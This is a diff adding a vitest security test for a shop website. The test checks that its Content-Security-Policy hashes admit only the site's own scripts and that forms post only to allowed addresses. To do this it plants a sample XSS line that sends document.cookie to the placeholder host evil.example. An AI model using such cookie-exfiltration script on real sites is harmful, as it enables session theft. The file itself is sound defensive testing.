@@ -1,0 +1,89 @@
+/** What documents allow: the site's own code, and the addresses that the settings name. */
+import { createHash } from 'node:crypto'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import type { ServerBuild } from 'react-router'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { openShop, type TestShop } from '#test/shop.ts'
+import { ensureBuilt } from '#test/torture/running-shop.ts'
+import type { Pages } from './pages.ts'
+
+const BUILT = join(import.meta.dirname, '../../build/site/server/index.js')
+const INJECTED = 'fetch("https://evil.example/" + document.cookie)'
+
+type Render = (...given: never[]) => Promise<Response>
+
+const built = async () => (await import(pathToFileURL(BUILT).href)) as ServerBuild
+
+/** The real site with a hole in it: somebody's text stands in every document as HTML. */
+async function siteWithAHole(): Promise<ServerBuild> {
+  const build = await built()
+  const { default: render, ...more } = build.entry.module as unknown as { default: Render }
+  const withHole: Render = async (...given) => {
+    const answer = await render(...given)
+    const html = (await answer.text()).replace('</main>', `<script>${INJECTED}</script></main>`)
+    return new Response(html, answer)
+  }
+  return { ...build, entry: { module: { ...more, default: withHole } } } as unknown as ServerBuild
+}
+
+const pagesOf = (build: ServerBuild): Pages => ({
+  build: async () => build,
+  assets: null,
+  files: null,
+  mode: 'production',
+})
+
+let shop: TestShop
+beforeAll(async () => {
+  ensureBuilt()
+  shop = await openShop({ pages: pagesOf(await siteWithAHole()) })
+}, 300_000)
+afterAll(() => shop.close())
+
+test('a script that comes into a document with somebody’s text is not among those its policy allows', async () => {
+  const { text, headers } = await shop.visitor().get('/about')
+  const policy = String(headers['content-security-policy'])
+  const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
+  expect(text).toContain(`<script>${INJECTED}</script>`)
+  expect(policy).not.toContain(hashOf(INJECTED))
+  // The site's own, such as the data block, still are.
+  const data = /<script>(window\.__reactRouterContext = [\s\S]*?)<\/script>/.exec(text)?.[1] ?? ''
+  expect(policy).toContain(hashOf(data))
+})
+
+/** Where the forms of the two pages are sent, and which addresses their policies allow for it. */
+async function formsOf(of: TestShop) {
+  const found = await Promise.all(
+    ['/', '/wholesale'].map(async (path) => {
+      const { text, headers } = await of.visitor().get(path)
+      const rule = (name: string) =>
+        new RegExp(`${name} ([^;]*)`).exec(String(headers['content-security-policy']))?.[1]
+      const action = /<form[^>]* action="([^"]*send)"/.exec(text)?.[1]
+      return { action, mayCall: rule('connect-src'), maySend: rule('form-action') }
+    }),
+  )
+  return found
+}
+
+test('the contact and the wholesale form are sent to this shop', async () => {
+  expect(await formsOf(shop)).toEqual([
+    { action: '/send', mayCall: "'self'", maySend: "'self'" },
+    { action: '/wholesale/send', mayCall: "'self'", maySend: "'self'" },
+  ])
+})
+
+test('with MAIL_SERVICE_BASE they are sent there, with JavaScript and without', async () => {
+  const other = await openShop({
+    env: { MAIL_SERVICE_BASE: 'https://mail.example/frame/' },
+    pages: pagesOf(await built()),
+  })
+  const rules = { mayCall: "'self' https://mail.example", maySend: "'self' https://mail.example" }
+  expect(await formsOf(other)).toEqual([
+    { action: 'https://mail.example/frame/send', ...rules },
+    { action: 'https://mail.example/frame/wholesale/send', ...rules },
+  ])
+  // For the scripts of the page.
+  expect((await other.visitor().get('/')).text).toContain('https://mail.example/frame\\"')
+  await other.close()
+})
